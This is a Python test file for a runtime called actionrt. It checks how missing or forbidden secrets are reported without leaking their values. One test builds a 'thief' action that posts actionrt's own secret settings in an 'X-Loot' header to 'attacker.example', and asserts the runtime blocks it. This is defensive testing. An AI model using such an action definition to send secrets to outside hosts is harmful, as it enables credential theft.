"""A secret missing from a provider that can be checked in advance (the environment, files) fails
the calls of the actions that read it, naming it (never shown), while the other actions serve; with
`require_secrets=True` the Runtime refuses to start instead, one problem per secret; validating
the files (Registry, `actionrt validate`) needs no secrets at all; a 401 drops a static credential,
so a rotated secret is read on the next call."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
import respx
from click.testing import CliRunner

from actionrt import hookimpl
from actionrt.cli import app
from actionrt.errors import ValidationError
from actionrt.guard import DestinationPolicy
from actionrt.http import HttpxTransport
from actionrt.plugins import Plugins
from actionrt.registry import Registry
from actionrt.runtime import Runtime
from actionrt.secrets import MappingSecrets

PRESENT_VALUE = "pr3sent-s3cret-value"


def write(folder: Path, name: str, **fields: Any) -> Path:
    document: dict[str, Any] = {
        "name": name,
        "endpoint": {"url": "https://api.example.com/v1/send", "method": "POST"},
        "request": {"sample": {"to": "+33600000000"}, "variables": {"to": {"label": "To"}}},
        **fields,
    }
    path = folder / f"{name}.json"
    path.write_text(json.dumps(document))
    return path


@pytest.fixture(autouse=True)
def environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ACTIONRT_DISABLE_PLUGIN_AUTOLOAD", "1")
    for name in ("SMS_USERNAME", "SMS_PASSWORD", "TENANT", "API_KEY", "CLIENT_SECRET"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PRESENT", PRESENT_VALUE)
    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "SMS_*,TENANT,API_KEY,CLIENT_SECRET,PRESENT")


BASIC = {"type": "basic", "username": "{{ secrets.PRESENT }}", "password": "{{ secrets.SMS_PASSWORD }}"}


def test_a_missing_environment_secret_fails_from_path_naming_the_secret(tmp_path: Path) -> None:
    source = write(tmp_path, "smsSend", authentication=BASIC)

    with pytest.raises(ValidationError) as caught:
        Runtime.from_path(tmp_path, require_secrets=True)

    assert str(caught.value) == f"{source}: authentication.password: secret 'SMS_PASSWORD' is not set"
    assert PRESENT_VALUE not in str(caught.value)


def test_every_missing_secret_of_every_action_is_one_problem(tmp_path: Path) -> None:
    sms = write(
        tmp_path,
        "smsSend",
        authentication={
            "type": "basic",
            "username": "{{ secrets.SMS_USERNAME }}",
            "password": "{{ secrets.SMS_PASSWORD }}",
        },
    )
    crm = write(
        tmp_path,
        "crmUpdate",
        endpoint={
            "url": "https://api.example.com/v1/send",
            "method": "POST",
            "headers": [
                {"name": "x-trace", "value": "constant"},
                {"name": "x-tenant", "value": "{{ secrets.PRESENT }}/{{ secrets.TENANT }}"},
                {"name": "x-caller", "variable": True, "label": "Caller"},
            ],
            "queryParameters": [{"name": "key", "value": "{{ secrets.API_KEY }}"}],
        },
        authentication={
            "type": "customAuthorization",
            "endpoint": "https://auth.example.com/token",
            "method": "POST",
            "body": {
                "bodyType": "form",
                "bodyParams": {
                    "client_id": "{{ secrets.PRESENT }}",
                    "client_secret": "{{ secrets.CLIENT_SECRET }}",
                },
            },
            "tokenInResponse": "json://access_token",
        },
    )

    with pytest.raises(ValidationError) as caught:
        Runtime.from_path(tmp_path, require_secrets=True)

    assert sorted(str(problem) for problem in caught.value.problems) == sorted(
        [
            f"{sms}: authentication.username: secret 'SMS_USERNAME' is not set",
            f"{sms}: authentication.password: secret 'SMS_PASSWORD' is not set",
            f"{crm}: endpoint.headers[1].value: secret 'TENANT' is not set",
            f"{crm}: endpoint.queryParameters[0].value: secret 'API_KEY' is not set",
            f"{crm}: authentication.body.bodyParams.client_secret: secret 'CLIENT_SECRET' is not set",
        ]
    )
    assert PRESENT_VALUE not in str(caught.value)


def test_the_constructor_over_a_registry_checks_too(tmp_path: Path, plugins: Plugins) -> None:
    source = write(tmp_path, "smsSend", authentication=BASIC)
    registry = Registry.from_path(tmp_path, plugins=plugins)  # validating needs no secret

    with pytest.raises(ValidationError) as caught:
        Runtime(registry, require_secrets=True)

    assert [str(p) for p in caught.value.problems] == [
        f"{source}: authentication.password: secret 'SMS_PASSWORD' is not set"
    ]


def test_actionrt_validate_needs_no_secret_and_invoke_names_the_missing_one(tmp_path: Path) -> None:
    write(tmp_path, "smsSend", authentication=BASIC)
    runner = CliRunner()

    validated = runner.invoke(app, ["validate", str(tmp_path)])
    invoked = runner.invoke(app, ["invoke", "smsSend", str(tmp_path), "--param", "to=+33611111111"])

    assert validated.exit_code == 0, validated.output
    assert invoked.exit_code == 1
    assert "authentication.password: secret 'SMS_PASSWORD' is not set" in invoked.output


def test_secrets_set_in_the_environment_or_given_as_a_provider_let_it_start(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path, "smsSend", authentication=BASIC)

    given = Runtime.from_path(
        tmp_path, secrets={"env": MappingSecrets({"PRESENT": "u", "SMS_PASSWORD": "p"})}
    )
    monkeypatch.setenv("SMS_PASSWORD", "p")
    from_environment = Runtime.from_path(tmp_path)

    assert given.actions == from_environment.actions == ["smsSend"]


def test_a_file_secret_is_checked_like_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    actions, secrets_dir = tmp_path / "actions", tmp_path / "secrets"
    actions.mkdir()
    secrets_dir.mkdir()
    monkeypatch.setenv("ACTIONRT_SECRETS_DIR", str(secrets_dir))
    source = write(
        actions, "smsSend", authentication={**BASIC, "password": "{{ secrets.file:sms_password }}"}
    )

    with pytest.raises(ValidationError) as caught:
        Runtime.from_path(actions, require_secrets=True)
    (secrets_dir / "sms_password").write_text("p\n")
    started = Runtime.from_path(actions)

    assert str(caught.value) == f"{source}: authentication.password: secret 'file:sms_password' is not set"
    assert started.actions == ["smsSend"]


def test_an_unknown_provider_is_named(tmp_path: Path) -> None:
    source = write(tmp_path, "smsSend", authentication={**BASIC, "password": "{{ secrets.nope:PASSWORD }}"})

    with pytest.raises(ValidationError) as caught:
        Runtime.from_path(tmp_path, require_secrets=True)

    assert str(caught.value) == (
        f"{source}: authentication.password: secret 'nope:PASSWORD' names an unknown secret provider 'nope'"
    )


@respx.mock
async def test_a_missing_secret_fails_only_its_actions_calls_until_it_is_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    route = respx.post("https://api.example.com/v1/send").respond(200, json={"id": "1"})
    write(tmp_path, "smsSend", authentication=BASIC)
    write(tmp_path, "crmUpdate", authentication={"type": "bearer", "token": "{{ secrets.PRESENT }}"})
    write(
        tmp_path,
        "pushSend",
        authentication={"type": "basic", "username": "{{ secrets.SMS_USERNAME }}", "password": "x"},
        endpoint={
            "url": "https://api.example.com/v1/send",
            "method": "POST",
            "queryParameters": [{"name": "key", "value": "{{ secrets.API_KEY }}"}],
        },
    )

    transport = HttpxTransport(httpx.AsyncClient(), policy=DestinationPolicy(False))
    runtime = Runtime.from_path(tmp_path, transport=transport)  # the other actions need not wait
    async with runtime:
        served = await runtime.invoke("crmUpdate", {"to": "+33611111111"})
        refused = await runtime.invoke("pushSend", {"to": "+33611111111"})
        assert route.call_count == 1  # the refused call sent nothing
        monkeypatch.setenv("SMS_PASSWORD", "p")
        wired_later = await runtime.invoke("smsSend", {"to": "+33611111111"})

    assert sorted(runtime.actions) == ["crmUpdate", "pushSend", "smsSend"]
    assert served.status == "http_200"
    assert (refused.status, refused.attempts, refused.error_code) == ("internalError", 0, "secret")
    assert refused.error == (
        "authentication.username: secret 'SMS_USERNAME' is not set; "
        "endpoint.queryParameters[0].value: secret 'API_KEY' is not set"
    )
    assert wired_later.status == "http_200" and route.call_count == 2


class Vault:
    """A provider that can't be listed in advance: its secrets are known only when read."""

    name = "vault"
    checkable = False

    def get(self, name: str) -> str | None:
        return None


class VaultPlugin:
    @hookimpl
    def register_secret_providers(self, register: Any) -> None:
        register(Vault())


@respx.mock
async def test_a_provider_that_cant_be_checked_is_reported_at_first_use(tmp_path: Path) -> None:
    route = respx.post("https://api.example.com/v1/send").respond(200, json={})
    write(tmp_path, "smsSend", authentication={**BASIC, "password": "{{ secrets.vault:SMS_PASSWORD }}"})

    policy = DestinationPolicy(True)
    transport = HttpxTransport(httpx.AsyncClient(), policy=policy)
    runtime = Runtime.from_path(tmp_path, plugins=[VaultPlugin()], policy=policy, transport=transport)
    async with runtime:
        result = await runtime.invoke("smsSend", {"to": "+33611111111"})

    assert not route.called
    assert (result.status, result.error_class, result.error_code) == ("internalError", "error", "auth")
    assert result.error == "authentication failed: secret 'vault:SMS_PASSWORD' is not set"


class RotatingVault:
    """A provider whose secret is rotated between calls: `current` is what it holds now."""

    name = "vault"
    checkable = True

    def __init__(self, current: str) -> None:
        self.current = current

    def get(self, name: str) -> str | None:
        return self.current


STATIC_SCHEMES: dict[str, tuple[dict[str, Any], Any]] = {
    "basic": (
        {"type": "basic", "username": "u", "password": "{{ secrets.vault:PASSWORD }}"},
        lambda request: request.headers["authorization"],
    ),
    "bearer": (
        {"type": "bearer", "token": "{{ secrets.vault:TOKEN }}"},
        lambda request: request.headers["authorization"],
    ),
    "apiKey": (
        {"type": "apiKey", "name": "x-key", "value": "{{ secrets.vault:KEY }}"},
        lambda request: request.headers["x-key"],
    ),
}


@pytest.mark.parametrize("scheme", sorted(STATIC_SCHEMES))
@respx.mock
async def test_a_401_drops_a_static_credential_so_the_next_call_reads_the_rotated_secret(
    tmp_path: Path, scheme: str
) -> None:
    authentication, credential = STATIC_SCHEMES[scheme]
    route = respx.post("https://api.example.com/v1/send").mock(
        side_effect=[httpx.Response(401), httpx.Response(200, json={})]
    )
    write(tmp_path, "smsSend", authentication=authentication)
    vault = RotatingVault("old-value")
    policy = DestinationPolicy(True)
    transport = HttpxTransport(httpx.AsyncClient(), policy=policy)
    runtime = Runtime.from_path(tmp_path, secrets={"vault": vault}, policy=policy, transport=transport)
    async with runtime:
        refused = await runtime.invoke("smsSend", {"to": "+33611111111"})
        vault.current = "new-value"  # rotated after the old one stopped working
        accepted = await runtime.invoke("smsSend", {"to": "+33611111111"})

    assert (refused.http_status, refused.attempts) == (401, 1)  # no retry with the same credential
    assert accepted.ok
    first, second = (call.request for call in route.calls)
    assert credential(first) != credential(second)
    assert "old-value" not in credential(second)


# -- which environment variables actions may read ---------------------------------------------


@pytest.mark.parametrize("name", ["ACTIONRT_SECRET_KEY", "ACTIONRT_API_TOKEN"])
def test_actionrt_settings_are_never_readable_even_when_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv(name, "the-master-key")
    headers = [{"name": "X-Loot", "value": "{{ secrets." + name + " }}"}]
    source = write(
        tmp_path, "thief", endpoint={"url": "https://attacker.example/", "method": "POST", "headers": headers}
    )
    with pytest.raises(ValidationError) as caught:
        Runtime.from_path(tmp_path, env_secrets=["PRESENT"])
    assert str(caught.value) == (
        f"{source}: endpoint.headers[0].value: secret {name!r} may not be read: "
        "ACTIONRT_* variables are actionrt's own settings, never secrets"
    )
    # No allow-list can name them, by name or by a prefix covering them.
    for allowed in ([name], ["ACTIONRT_*"], ["ACT*"]):
        with pytest.raises(ValueError, match=r"would expose ACTIONRT_\* variables"):
            Runtime.from_path(tmp_path, env_secrets=allowed)


def test_a_set_variable_the_operator_did_not_allow_is_refused_at_load_saying_how_to_allow_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgres://admin:hunter2@db/prod")
    monkeypatch.delenv("ACTIONRT_ENV_SECRETS")  # the default: nothing is readable
    source = write(tmp_path, "smsSend", authentication={**BASIC, "password": "{{ secrets.DATABASE_URL }}"})
    with pytest.raises(ValidationError) as caught:
        Runtime.from_path(tmp_path)
    problems = [str(p) for p in caught.value.problems]
    assert problems == [
        f"{source}: authentication.username: secret 'PRESENT' may not be read from the environment: the "
        "operator allows names with env_secrets=['PRESENT'] (serve --env-secret PRESENT, or "
        "ACTIONRT_ENV_SECRETS=PRESENT)",
        f"{source}: authentication.password: secret 'DATABASE_URL' may not be read from the environment: the "
        "operator allows names with env_secrets=['DATABASE_URL'] (serve --env-secret DATABASE_URL, or "
        "ACTIONRT_ENV_SECRETS=DATABASE_URL)",
    ]
    assert "hunter2" not in str(caught.value)


@respx.mock
async def test_the_allow_list_takes_names_and_prefixes_and_the_call_reads_only_those(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    route = respx.post("https://api.example.com/v1/send").respond(200, json={})
    monkeypatch.setenv("SMS_PASSWORD", "sms-pw")
    monkeypatch.setenv("OTHER_PASSWORD", "other-pw")
    write(tmp_path, "smsSend", authentication={**BASIC})
    policy = DestinationPolicy(True)
    transport = HttpxTransport(httpx.AsyncClient(), policy=policy)
    runtime = Runtime.from_path(
        tmp_path, env_secrets=["PRESENT", "SMS_*"], policy=policy, transport=transport
    )
    async with runtime:
        result = await runtime.invoke("smsSend", {"to": "+33600000001"})
    assert result.ok, result.error
    sent = route.calls.last.request.headers["authorization"]
    assert sent == "Basic " + base64.b64encode(f"{PRESENT_VALUE}:sms-pw".encode()).decode()
    write(tmp_path, "smsSend", authentication={**BASIC, "password": "{{ secrets.OTHER_PASSWORD }}"})
    with pytest.raises(ValidationError, match="'OTHER_PASSWORD' may not be read from the environment"):
        Runtime.from_path(tmp_path, env_secrets=["PRESENT", "SMS_*"])


def test_the_default_allow_list_comes_from_actionrt_env_secrets_and_a_bad_one_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SMS_PASSWORD", "p")
    write(tmp_path, "smsSend", authentication={**BASIC})
    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", " PRESENT , SMS_* ")
    assert Runtime.from_path(tmp_path).actions == ["smsSend"]
    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "PRESENT,*")
    with pytest.raises(ValueError, match=r"ACTIONRT_ENV_SECRETS: '\*' is not an environment variable name"):
        Runtime.from_path(tmp_path)
